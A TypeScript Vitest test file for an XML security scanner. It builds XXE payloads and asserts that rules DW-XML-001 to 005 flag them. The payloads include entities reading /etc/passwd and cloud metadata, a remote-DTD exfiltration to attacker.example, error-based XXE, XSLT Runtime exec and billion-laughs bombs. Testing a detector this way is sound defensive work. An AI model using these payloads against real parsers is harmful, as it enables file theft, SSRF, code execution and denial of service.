/** Payload families of detection-anchors §5.1, each built here from the technique, not copied. */
import { describe, expect, it } from 'vitest';
import { rulesOf, run } from './harness.js';

const SCHEMES = [
  'file:///etc/passwd',
  'http://169.254.169.254/latest/meta-data/',
  'https://attacker.example/x',
  'php://filter/convert.base64-encode/resource=index.php',
  'expect://id',
  'jar:http://attacker.example/a.zip!/b.txt',
  'netdoc:/etc/hosts',
  'gopher://127.0.0.1:25/_HELO',
  'data://text/plain;base64,SGVsbG8=',
  'ftp://attacker.example/x',
  '../../../../etc/shadow',
  'C:/Windows/win.ini',
  '//attacker.example/share',
];

describe('classic external general entity (DW-XML-001)', () => {
  for (const url of SCHEMES) {
    it(`SYSTEM ${url.slice(0, 24)}`, () => {
      const doc = `<?xml version="1.0"?>\n<!DOCTYPE data [\n  <!ENTITY leak SYSTEM "${url}">\n]>\n<data>&leak;</data>`;
      const r = run(doc);
      const f = r.findings.find((x) => x.rule === 'DW-XML-001');
      expect(f?.severity).toBe('critical');
      expect(f?.offset).toBe(doc.indexOf('<!ENTITY'));
      expect(f?.message).not.toContain(url);
    });
  }

  it('names the scheme class in the message without echoing the URL', () => {
    const r = run(`<!DOCTYPE a [<!ENTITY x SYSTEM "php://filter/resource=/etc/passwd">]><a>&x;</a>`);
    expect(r.findings.find((f) => f.rule === 'DW-XML-001')?.message).toMatch(/php: scheme/);
  });

  it('unparsed external entity with NDATA', () => {
    expect(rulesOf(`<!DOCTYPE a [<!NOTATION n SYSTEM "x"><!ENTITY img SYSTEM "http://h/i.gif" NDATA n>]><a/>`)).toContain(
      'DW-XML-001',
    );
  });
});

describe('PUBLIC instead of SYSTEM', () => {
  it('general entity', () => {
    expect(rulesOf(`<!DOCTYPE r [<!ENTITY e PUBLIC "-//A//B//EN" "file:///etc/hostname">]><r>&e;</r>`)).toContain('DW-XML-001');
  });
  it('parameter entity', () => {
    const rules = rulesOf(`<!DOCTYPE r [<!ENTITY % p PUBLIC "any text" "http://attacker.example/p.dtd"> %p;]><r/>`);
    expect(rules).toEqual(expect.arrayContaining(['DW-XML-001', 'DW-XML-003']));
  });
});

describe('parameter entity / out-of-band', () => {
  it('remote DTD through a parameter entity', () => {
    const rules = rulesOf(`<?xml version="1.0"?>\n<!DOCTYPE d [\n <!ENTITY % remote SYSTEM "http://203.0.113.9/e.dtd">\n %remote;\n %run;\n]>\n<d>1</d>`);
    expect(rules).toEqual(expect.arrayContaining(['DW-XML-001', 'DW-XML-003']));
  });
  it('the remote DTD itself, uploaded or echoed (no DOCTYPE)', () => {
    const dtd = `<!ENTITY % file SYSTEM "file:///etc/hostname">\n<!ENTITY % wrap "<!ENTITY &#x25; send SYSTEM 'http://attacker.example/?d=%file;'>">\n%wrap;\n%send;\n`;
    const r = run(dtd);
    // 004 as well: the value of %wrap references %file.
    expect(r.rules).toEqual(new Set(['DW-XML-001', 'DW-XML-003', 'DW-XML-004']));
    // The external entity built inside the value is reported at the declaration that carries it.
    const built = r.findings.filter((f) => f.rule === 'DW-XML-001').map((f) => f.offset);
    expect(built).toContain(dtd.indexOf('<!ENTITY % wrap'));
  });
});

describe('external DTD only (DW-XML-002)', () => {
  for (const sys of ['http://attacker.example/evil.dtd', '//x/x', 'file:///usr/share/xml/x.dtd', 'local.dtd']) {
    it(`SYSTEM "${sys}"`, () => {
      const r = run(`<?xml version="1.0"?>\n<!DOCTYPE note SYSTEM "${sys}">\n<note><to>a</to></note>`);
      expect([...r.rules]).toEqual(['DW-XML-002']);
      expect(r.findings[0]!.severity).toBe('high');
    });
  }
  it('a well-known FPI with a system literal on another host', () => {
    const doc = `<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://attacker.example/TR/xhtml1/DTD/xhtml1-strict.dtd"><html/>`;
    expect(rulesOf(doc)).toEqual(['DW-XML-002']);
  });
  it('an unknown FPI', () => {
    expect(rulesOf(`<!DOCTYPE x PUBLIC "-//EVIL//DTD X//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><x/>`)).toEqual([
      'DW-XML-002',
    ]);
  });
});

describe('error-based XXE through a local DTD', () => {
  it('redefines a parameter entity of a system DTD', () => {
    const doc = `<!DOCTYPE message [
  <!ENTITY % local_dtd SYSTEM "file:///usr/share/yelp/dtd/docbookx.dtd">
  <!ENTITY % ISOamso '
    <!ENTITY &#x25; file SYSTEM "file:///etc/passwd">
    <!ENTITY &#x25; eval "<!ENTITY &#x26;#x25; error SYSTEM &#x27;file:///nonexistent/&#x25;file;&#x27;>">
    &#x25;eval;
    &#x25;error;
  '>
  %local_dtd;
]>
<message>x</message>`;
    const r = run(doc);
    expect(r.rules).toEqual(new Set(['DW-XML-001', 'DW-XML-003', 'DW-XML-004']));
    // Both the local DTD and the declarations smuggled inside ISOamso are external entities.
    expect(r.findings.filter((f) => f.rule === 'DW-XML-001').length).toBeGreaterThanOrEqual(2);
  });
});

describe('XInclude and schema fetches (DW-XML-005)', () => {
  it('XInclude of a local file, no DOCTYPE', () => {
    const doc = `<inv xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></inv>`;
    const r = run(doc);
    expect([...r.rules]).toEqual(['DW-XML-005']);
    expect(r.findings[0]!.offset).toBe(doc.indexOf('<xi:include'));
  });
  it('XInclude with a custom prefix declared on the include element itself', () => {
    expect(rulesOf(`<a><inc:include xmlns:inc = 'http://www.w3.org/2001/XInclude' href="http://h/x"/></a>`)).toEqual([
      'DW-XML-005',
    ]);
  });
  it('XInclude as the default namespace', () => {
    expect(rulesOf(`<include xmlns="http://www.w3.org/2001/XInclude" href="/etc/passwd" parse="text"/>`)).toEqual(['DW-XML-005']);
  });
  it('xs:include / xs:import / xs:redefine with schemaLocation', () => {
    for (const el of ['include', 'import', 'redefine']) {
      const doc = `<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema">\n  <xs:${el} namespace="urn:x"\n    schemaLocation="http://10.0.0.5/internal.xsd"/>\n</xs:schema>`;
      const r = run(doc);
      expect([...r.rules]).toEqual(['DW-XML-005']);
      expect(r.findings[0]!.offset).toBe(doc.indexOf(`<xs:${el}`));
    }
  });
  it('XSLT document() and unparsed-text() with a literal, but not document(\'\')', () => {
    const ns = 'xmlns:xsl="http://www.w3.org/1999/XSL/Transform"';
    const sheet = (expr: string): string =>
      `<xsl:stylesheet version="1.0" ${ns}><xsl:template match="/"><xsl:copy-of select="${expr}"/></xsl:template></xsl:stylesheet>`;
    expect(rulesOf(sheet("document('file:///etc/passwd')"))).toEqual(['DW-XML-005']);
    expect(rulesOf(sheet("unparsed-text( 'http://169.254.169.254/' )"))).toEqual(['DW-XML-005']);
    expect(rulesOf(sheet("document('')/*/xsl:template"))).toEqual([]);
  });

  it('XSLT include/import and extension functions', () => {
    const ns = 'xmlns:xsl="http://www.w3.org/1999/XSL/Transform"';
    expect(rulesOf(`<xsl:stylesheet version="1.0" ${ns}><xsl:include href="http://h/x.xsl"/></xsl:stylesheet>`)).toEqual([
      'DW-XML-005',
    ]);
    expect(
      rulesOf(
        `<xsl:stylesheet version="1.0" ${ns} xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime"><xsl:template match="/"><xsl:value-of select="rt:exec(rt:getRuntime(),'id')"/></xsl:template></xsl:stylesheet>`,
      ),
    ).toEqual(['DW-XML-005']);
  });
});

describe('billion laughs / quadratic blow-up (DW-XML-004)', () => {
  const laughs = (levels: number, fan: number): string => {
    let dtd = '<!ENTITY l0 "ha">\n';
    for (let i = 1; i <= levels; i++) dtd += `<!ENTITY l${i} "${`&l${i - 1};`.repeat(fan)}">\n`;
    return `<?xml version="1.0"?>\n<!DOCTYPE bomb [\n${dtd}]>\n<bomb>&l${levels};</bomb>`;
  };
  it('classic 10 x 10', () => {
    const r = run(laughs(9, 10));
    const f = r.findings.find((x) => x.rule === 'DW-XML-004');
    expect(f?.message).toMatch(/expansion estimated/);
  });
  it('shallow nesting is still an entity referencing another entity', () => {
    expect(rulesOf(laughs(2, 3))).toEqual(['DW-XML-004']);
  });
  it('quadratic blow-up: one 50 KB entity referenced 10,000 times', () => {
    const doc = `<!DOCTYPE q [<!ENTITY big "${'A'.repeat(50_000)}">]><q>${'&big;'.repeat(10_000)}</q>`;
    const t0 = performance.now();
    const r = run(doc);
    expect(performance.now() - t0).toBeLessThan(500);
    expect(r.findings.find((x) => x.rule === 'DW-XML-004')?.message).toMatch(/expansion estimated/);
  });
  it('recursive entities', () => {
    expect(rulesOf(`<!DOCTYPE r [<!ENTITY a "&b;"><!ENTITY b "&a;">]><r>&a;</r>`)).toEqual(['DW-XML-004']);
  });
  it('too many entity declarations', () => {
    let dtd = '';
    for (let i = 0; i < 200; i++) dtd += `<!ENTITY e${i} "v${i}">`;
    expect(rulesOf(`<!DOCTYPE r [${dtd}]><r/>`)).toEqual(['DW-XML-004']);
  });
  it('parameter laughs built with &#37; character references', () => {
    let dtd = '<!ENTITY % pe_1 "<!---->">\n';
    for (let i = 2; i <= 12; i++) dtd += `<!ENTITY % pe_${i} "&#37;pe_${i - 1};<!---->&#37;pe_${i - 1};">\n`;
    const r = run(`<?xml version="1.0"?>\n<!DOCTYPE r [\n${dtd}%pe_12;\n]>\n<r/>`);
    expect(r.rules).toEqual(new Set(['DW-XML-003', 'DW-XML-004']));
    expect(r.findings.find((f) => f.rule === 'DW-XML-003' && /character references/.test(f.message))).toBeDefined();
  });
});
